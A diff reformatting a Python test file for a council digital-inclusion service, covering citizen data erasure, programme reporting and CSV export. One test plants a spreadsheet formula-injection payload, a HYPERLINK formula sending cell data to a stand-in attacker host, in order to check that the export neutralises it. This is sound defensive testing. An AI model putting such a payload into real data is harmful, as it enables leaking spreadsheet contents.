@@ -27,6 +27,7 @@ from ..conftest import citizen, make_programme, make_session, make_venue, outbox
 
 def all_text(client: TestClient) -> str:
     """Every row of every table in the service's database, as one string."""
+
     async def dump(s: Any) -> str:
         conn = await s.connection()
         names = await conn.run_sync(lambda c: sa.inspect(c).get_table_names())
@@ -35,42 +36,77 @@ def all_text(client: TestClient) -> str:
             rows = (await s.execute(sa.text(f'SELECT * FROM "{name}"'))).all()
             out += [repr(tuple(r)) for r in rows]
         return "\n".join(out)
+
     return run(client, dump)  # type: ignore[no-any-return]
 
 
 def test_erasure_pseudonymises_everywhere_and_keeps_the_counts(client: TestClient) -> None:
     course = make_programme(client)
     past = make_session(client, programme=course, capacity=5)
-    future = make_session(client, programme=course, capacity=1,
-                          venue=make_venue(client, name="Olney Library", ward="Olney",
-                                           postcode="MK46 4EF", latitude=52.153,
-                                           longitude=-0.7015))
+    future = make_session(
+        client,
+        programme=course,
+        capacity=1,
+        venue=make_venue(
+            client,
+            name="Olney Library",
+            ward="Olney",
+            postcode="MK46 4EF",
+            latitude=52.153,
+            longitude=-0.7015,
+        ),
+    )
     subject = f"citizen-erase-{uuid.uuid4().hex[:8]}"
     me = identity_headers(subject, "citizen")
-    done = client.post(f"/api/v1/sessions/{past['id']}/enrolments", headers=me, json={
-        "consent": True, "preferred_name": "Samwise-Quillfeather", "postcode": "MK6 2LP",
-        "year_of_birth": 1951}).json()
-    client.post(f"/api/v1/sessions/{past['id']}/enrolments", json={"consent": True},
-                headers=citizen(2))
-    held = client.post(f"/api/v1/sessions/{future['id']}/enrolments", headers=me,
-                       json={"consent": True}).json()
-    waiting = client.post(f"/api/v1/sessions/{future['id']}/enrolments",
-                          json={"consent": True}, headers=citizen(3)).json()
+    done = client.post(
+        f"/api/v1/sessions/{past['id']}/enrolments",
+        headers=me,
+        json={
+            "consent": True,
+            "preferred_name": "Samwise-Quillfeather",
+            "postcode": "MK6 2LP",
+            "year_of_birth": 1951,
+        },
+    ).json()
+    client.post(
+        f"/api/v1/sessions/{past['id']}/enrolments", json={"consent": True}, headers=citizen(2)
+    )
+    held = client.post(
+        f"/api/v1/sessions/{future['id']}/enrolments", headers=me, json={"consent": True}
+    ).json()
+    waiting = client.post(
+        f"/api/v1/sessions/{future['id']}/enrolments", json={"consent": True}, headers=citizen(3)
+    ).json()
     assert (held["status"], waiting["status"]) == ("confirmed", "waitlisted")
     data = make_programme(client, title="Free data", kind="connectivity")
-    client.post("/api/v1/vouchers", json={"programme_id": data["id"], "provider": "O2",
-                                          "codes": ["O2-0001"]})
-    assert client.post("/api/v1/vouchers/allocations", json={
-        "programme_id": data["id"], "participant_id": done["participant_id"]}
-    ).status_code == 201
+    client.post(
+        "/api/v1/vouchers",
+        json={"programme_id": data["id"], "provider": "O2", "codes": ["O2-0001"]},
+    )
+    assert (
+        client.post(
+            "/api/v1/vouchers/allocations",
+            json={"programme_id": data["id"], "participant_id": done["participant_id"]},
+        ).status_code
+        == 201
+    )
 
     async def started(s: Any) -> None:
-        await s.execute(sa.update(ProgrammeSession).where(
-            ProgrammeSession.id == uuid.UUID(past["id"])).values(  # type: ignore[arg-type]
-            starts_at=datetime.now(UTC) - timedelta(hours=1)))
+        await s.execute(
+            sa.update(ProgrammeSession)
+            .where(ProgrammeSession.id == uuid.UUID(past["id"]))
+            .values(  # type: ignore[arg-type]
+                starts_at=datetime.now(UTC) - timedelta(hours=1)
+            )
+        )
+
     run(client, started)
-    assert client.post(f"/api/v1/enrolments/{done['id']}/attendance",
-                       json={"attended": True}).status_code == 200
+    assert (
+        client.post(
+            f"/api/v1/enrolments/{done['id']}/attendance", json={"attended": True}
+        ).status_code
+        == 200
+    )
 
     before = client.get("/api/v1/reports/figures").json()
     assert subject in all_text(client)
@@ -86,9 +122,13 @@ def test_erasure_pseudonymises_everywhere_and_keeps_the_counts(client: TestClien
     assert CitizenErasureRequested.event_type() in request
 
     async def participant_row(s: Any) -> dict[str, Any]:
-        row = (await s.execute(sa.select(Participant).where(
-            Participant.id == uuid.UUID(done["participant_id"])))).scalar_one()  # type: ignore[arg-type]
+        row = (
+            await s.execute(
+                sa.select(Participant).where(Participant.id == uuid.UUID(done["participant_id"]))
+            )
+        ).scalar_one()  # type: ignore[arg-type]
         return row.model_dump()  # type: ignore[no-any-return]
+
     erased = run(client, participant_row)
     assert erased["erased_at"] is not None
     assert all(erased[f] is None for f in PERSONAL_FIELDS)  # the year of birth too
@@ -111,14 +151,27 @@ def test_reports_by_programme_ward_and_month_and_csv(client: TestClient) -> None
     course = make_programme(client)
     session = make_session(client, programme=course, capacity=1)
     for n in (1, 2):
-        client.post(f"/api/v1/sessions/{session['id']}/enrolments", json={"consent": True},
-                    headers=citizen(n))
+        client.post(
+            f"/api/v1/sessions/{session['id']}/enrolments",
+            json={"consent": True},
+            headers=citizen(n),
+        )
     rows = client.get("/api/v1/reports/figures").json()
     month = session["starts_at"][:7]
-    assert rows == [{
-        "programme_id": course["id"], "programme_title": course["title"],
-        "ward": "Central Milton Keynes", "month": month, "participants": 1, "enrolments": 1,
-        "completions": 0, "devices_loaned": 0, "devices_on_loan": 0, "vouchers_allocated": 0}]
+    assert rows == [
+        {
+            "programme_id": course["id"],
+            "programme_title": course["title"],
+            "ward": "Central Milton Keynes",
+            "month": month,
+            "participants": 1,
+            "enrolments": 1,
+            "completions": 0,
+            "devices_loaned": 0,
+            "devices_on_loan": 0,
+            "vouchers_allocated": 0,
+        }
+    ]
     r = client.get("/api/v1/reports/figures.csv")
     assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
     parsed = list(csv.DictReader(io.StringIO(r.text)))
@@ -133,8 +186,9 @@ def test_reports_csv_neutralises_formulas(client: TestClient) -> None:
     title = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
     course = make_programme(client, title=title)
     session = make_session(client, programme=course)
-    client.post(f"/api/v1/sessions/{session['id']}/enrolments", json={"consent": True},
-                headers=citizen(1))
+    client.post(
+        f"/api/v1/sessions/{session['id']}/enrolments", json={"consent": True}, headers=citizen(1)
+    )
     r = client.get("/api/v1/reports/figures.csv")
     assert r.status_code == 200, r.text
     [row] = list(csv.DictReader(io.StringIO(r.text)))
@@ -144,8 +198,12 @@ def test_reports_csv_neutralises_formulas(client: TestClient) -> None:
 
 
 def _erasure_record(subject: str, offset: int) -> ConsumerRecord:  # type: ignore[type-arg]
-    event = CitizenErasureRequested(citizen_id=subject, erasure_id=uuid.uuid4(),
-                                    requested_by="staff", occurred_at=datetime.now(UTC))
+    event = CitizenErasureRequested(
+        citizen_id=subject,
+        erasure_id=uuid.uuid4(),
+        requested_by="staff",
+        occurred_at=datetime.now(UTC),
+    )
     return consumer_record(event, offset, source="urn:uk-gov-milton-keynes:elsewhere")
 
 
@@ -153,26 +211,41 @@ def test_the_platform_erasure_event_erases_the_participant_once(client: TestClie
     session = make_session(client, programme=make_programme(client), capacity=5)
     subject = f"citizen-elsewhere-{uuid.uuid4().hex[:8]}"
     me = identity_headers(subject, "citizen")
-    held = client.post(f"/api/v1/sessions/{session['id']}/enrolments", headers=me, json={
-        "consent": True, "preferred_name": "Rosie-Cotton", "postcode": "MK6 2LP"}).json()
+    held = client.post(
+        f"/api/v1/sessions/{session['id']}/enrolments",
+        headers=me,
+        json={"consent": True, "preferred_name": "Rosie-Cotton", "postcode": "MK6 2LP"},
+    ).json()
     assert held["status"] == "confirmed"
     runtime = client.app.state.runtime  # type: ignore[attr-defined]
-    consumer = EventConsumer(runtime.database, bootstrap_servers="127.0.0.1:1",
-                             group_id="inclusion",
-                             subscriptions=SUBSCRIPTIONS, service_name="inclusion",
-                             source=runtime.settings.cloudevents_source)
+    consumer = EventConsumer(
+        runtime.database,
+        bootstrap_servers="127.0.0.1:1",
+        group_id="inclusion",
+        subscriptions=SUBSCRIPTIONS,
+        service_name="inclusion",
+        source=runtime.settings.cloudevents_source,
+    )
     before = outbox_types(client)
     gone = _erasure_record(subject, 1)
     assert client.portal.call(consumer.process, gone) == "handled"  # type: ignore[union-attr]
     assert client.portal.call(consumer.process, gone) == "duplicate"  # type: ignore[union-attr]
-    assert client.portal.call(  # type: ignore[union-attr]
-        consumer.process, _erasure_record(subject, 2)) == "handled"  # nothing left: a no-op
-    assert client.portal.call(  # type: ignore[union-attr]
-        consumer.process, _erasure_record("citizen-never-seen", 3)) == "handled"
+    assert (
+        client.portal.call(  # type: ignore[union-attr]
+            consumer.process, _erasure_record(subject, 2)
+        )
+        == "handled"
+    )  # nothing left: a no-op
+    assert (
+        client.portal.call(  # type: ignore[union-attr]
+            consumer.process, _erasure_record("citizen-never-seen", 3)
+        )
+        == "handled"
+    )
     text = all_text(client)
     for personal in (subject, "Rosie-Cotton", "MK6 2LP"):
         assert personal not in text, personal
     assert client.get("/api/v1/participants/me", headers=me).status_code == 404
     assert client.get(f"/api/v1/enrolments/{held['id']}").json()["status"] == "cancelled"
     # Its upcoming place was cancelled (as erasure does); the request is not announced again.
-    assert outbox_types(client)[len(before):] == ["EnrolmentCancelled"]
+    assert outbox_types(client)[len(before) :] == ["EnrolmentCancelled"]
